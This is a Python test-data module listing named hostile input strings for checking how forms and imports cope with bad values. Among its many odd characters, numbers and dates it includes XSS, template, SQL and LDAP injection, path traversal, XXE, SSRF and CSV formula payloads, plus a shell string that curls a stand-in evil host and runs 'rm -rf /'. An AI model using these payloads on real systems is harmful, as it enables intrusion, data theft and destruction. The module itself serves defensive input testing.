"""Values that break careless programs, each with a name: for every field of a form and every column of an import."""

from typing import NamedTuple


class Hostile(NamedTuple):
    """A value and what it tries."""

    name: str
    value: str


class HostileBytes(NamedTuple):
    """Bytes that no text should be, for files and raw requests."""

    name: str
    value: bytes


HOSTILE: tuple[Hostile, ...] = tuple(
    Hostile(name, value)
    for name, value in {
        # Scripts in pages
        "script tag": "<script>alert(1)</script>",
        "image with onerror": '"><img src=x onerror=alert(1)>',
        "svg with onload": "<svg/onload=alert`1`>",
        "javascript link": "javascript:alert(document.cookie)",
        "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "attribute breakout": "' onmouseover='alert(1)",
        "htmx attribute": '"><div hx-get="/_local/" hx-trigger="load">',
        "closing textarea": "</textarea></title></style><script>alert(1)</script>",
        "html comment": "<!--<img src='--><script>alert(1)//'>",
        "half an entity": "&#x3C;script&#x3E;&lt;b&gt;&amp;amp;",
        "style with expression": "<style>*{background:url(//evil.example)}</style>",
        # Templates and formats
        "jinja expression": "{{7*7}}{{ config.items() }}",
        "jinja statement": "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
        "python format": "{0.__class__.__init__.__globals__}{amount!r}",
        "percent format": "%s%s%n%d%(name)s",
        "dollar braces": "${7*7}#{7*7}<%= 7*7 %>",
        # Spreadsheets
        "formula equals": '=HYPERLINK("http://evil.example","pay")',
        "formula plus": "+1+1",
        "formula minus": "-2+3+cmd|' /C calc'!A0",
        "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula after a tab": "\t=1+1",
        "formula after a quote": "'=1+1",
        "formula as text": '="00123"',
        # Headers of mail and HTTP
        "crlf header": "Ana\r\nBcc: all@evil.example",
        "newline header": "Ana\nSubject: you won",
        "lone carriage return": "Ana\rX-Evil: 1",
        "encoded word with crlf": "=?UTF-8?Q?=0D=0ABcc:_all@evil.example?=",
        "encoded word in base64": "=?utf-8?B?DQpCY2M6IGFsbEBldmlsLmV4YW1wbGU=?=",
        "address with comment": "ana(comment)@example.org",
        "address in angles": "Ana <ana@example.org>, Eva <eva@evil.example>",
        "address with quotes": '"ana@evil.example"@example.org',
        "address by ip": "ana@[127.0.0.1]",
        "address with a look-alike": "ana@еxample.org",  # a Cyrillic е
        "two addresses": "ana@example.org;eva@example.org",
        # Characters
        "nul": "Ana\x00Eva",
        "bell and escape": "\x07\x1b[31mred\x1b[0m",
        "delete": "Ana\x7f\x08\x08\x08Eva",
        "c1 control": "Ana\x85\x9bEva",
        "right-to-left override": "factura\u202efdp.exe",
        "isolates": "\u2066Ana\u2069\u2067Eva",
        "zero width": "A\u200bn\u200ca\u2060\ufeff",
        "only zero width": "\u200b\u200b\ufeff",
        "soft hyphens": "A\u00adn\u00ada",
        "line separator": "Ana\u2028Eva\u2029Sol",
        "emoji family": "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "private use": "\ue000\uf8ff",
        "noncharacter": "\ufffe\uffff",
        "stacked accents": "A" + "\u0301" * 500,
        "composed": "Peñ\u0061",
        "decomposed": "Pen\u0303a",
        "ligature and full width": "ﬁ Ａｎａ",
        "greek look-alike": "Αna",
        "dotless i and sharp s": "İıßẞ",
        "right to left": "مرحبا بالعالم",
        # Length
        "nothing": "",
        "only spaces": " " * 300,
        "no-break spaces": "\u00a0\u2003\u3000",
        "ten thousand letters": "a" * 10_000,
        "a very long word": "Donaudampfschifffahrt" * 20,
        "ten thousand emoji": "💸" * 10_000,
        "many lines": "linea\n" * 500,
        # Numbers
        "huge number": "9" * 400,
        "just too big": "1000000000000",
        "negative": "-1",
        "negative in accounting": "(100,00)",
        "unicode minus": "−100",
        "zero": "0,00",
        "negative zero": "-0",
        "nan": "NaN",
        "infinity": "Infinity",
        "exponent": "1e999",
        "small exponent": "1e-3",
        "hexadecimal": "0x1F",
        "underscores": "1_000",
        "arabic digits": "١٢٣٤",
        "full-width digits": "１２３４",
        "roman numeral and fraction": "Ⅷ½",
        "superscript": "10²",
        "too many marks": "1.2.3,4,5",
        "many decimals": "0.000000000000000000000001",
        "percent": "21 %",
        "boolean": "true",
        "null word": "null",
        # Dates
        "no such day": "2026-02-30",
        "all zeros": "0000-00-00",
        "end of time": "31/12/9999",
        "year ten thousand": "10000-01-01",
        "date with a zone": "2026-01-01T23:59:60+14:00",
        "midnight far east": "2026-01-01T00:00:00-12:00",
        "negative year": "-0001-01-01",
        "date in words": "mañana",
        "unix time": "1767225600",
        # Programs behind
        "sql": "'; DROP TABLE debts; --",
        "sql union": "1 OR 1=1 UNION SELECT * FROM accounts",
        "nosql": '{"$gt": ""}',
        "json": '{"amount": 1, "__proto__": {"admin": true}}',
        "key of another record": "A#other#C#client",
        "path": "../../../../etc/passwd",
        "windows path": "..\\..\\windows\\win.ini",
        "encoded path": "%2e%2e%2fetc%2fpasswd%00.xml",
        "shell": "$(curl evil.example)`id`;rm -rf /|true",
        "url": "http://169.254.169.254/latest/meta-data/",
        "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "ldap": "*)(uid=*))(|(uid=*",
        "log forging": "ok\n2026-01-01 INFO paid in full",
        "regular expression": "(a+)+$",
        "csv breakout": '";"x";"y\n"z"',
        "only quotes": '""""',
        "only separators": ";;;,,,\t\t|||",
        "backslashes": "\\\\\\'\\\"",
        "currency nobody has": "XXX",
        "replacement character": "Pe\ufffda",
    }.items()
)

HOSTILE_BYTES: tuple[HostileBytes, ...] = tuple(
    HostileBytes(name, value)
    for name, value in {
        "lone surrogate in utf-8": b"Ana \xed\xa0\x80 Eva",
        "surrogate pair in utf-8": b"\xed\xa0\xbd\xed\xb2\xa9",
        "overlong slash": b"..\xc0\xaf..\xc0\xafetc",
        "overlong nul": b"Ana\xc0\x80Eva",
        "cut multibyte": b"Pe\xc3",
        "five-byte form": b"\xf8\x88\x80\x80\x80",
        "beyond unicode": b"\xf4\x90\x80\x80",
        "all bytes": bytes(range(256)),
        "utf-16 within utf-8": "Peña".encode("utf-16"),
        "utf-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "shift state": b"\x1b$B\x1b(B",
        "windows-1252 gap": b"\x81\x8d\x8f\x90\x9d",
        "only nuls": b"\x00" * 64,
        "only marks": b"\xef\xbb\xbf\xff\xfe",
        "ends in a carriage return": b"Ana\r",
    }.items()
)
